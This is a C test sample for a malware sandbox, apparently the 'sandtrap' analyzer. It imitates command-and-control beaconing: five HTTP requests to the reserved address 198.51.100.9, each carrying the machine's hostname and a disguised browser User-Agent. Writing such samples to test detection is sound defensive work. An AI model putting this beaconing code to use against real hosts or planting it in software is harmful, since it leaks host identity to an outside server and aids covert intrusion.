/* C2 beaconing: a raw HTTP GET to 198.51.100.9:80 every second, five times, with a host id in the path.
 * Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
 * simulated internet, reserved addresses). Built into the build directory and copied
 * without the exec bit; never run it on a host, only through `sandtrap analyze`.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
	char host[64] = "unknown", req[256], resp[512];
	gethostname(host, sizeof(host));
	for (int i = 0; i < 5; i++) {
		struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(80)};
		inet_pton(AF_INET, "198.51.100.9", &a.sin_addr);
		int s = socket(AF_INET, SOCK_STREAM, 0);
		if (s >= 0 && connect(s, (struct sockaddr *)&a, sizeof(a)) == 0) {
			int n = snprintf(req, sizeof(req),
					 "GET /b/%s/%d HTTP/1.1\r\nHost: 198.51.100.9\r\n"
					 "User-Agent: Mozilla/5.0 (Windows NT 6.1)\r\nConnection: close\r\n\r\n",
					 host, i);
			if (write(s, req, (size_t)n) == n && read(s, resp, sizeof(resp)) > 0)
				printf("beacon %d ok\n", i);
		}
		if (s >= 0)
			close(s);
		sleep(1);
	}
	return 0;
}
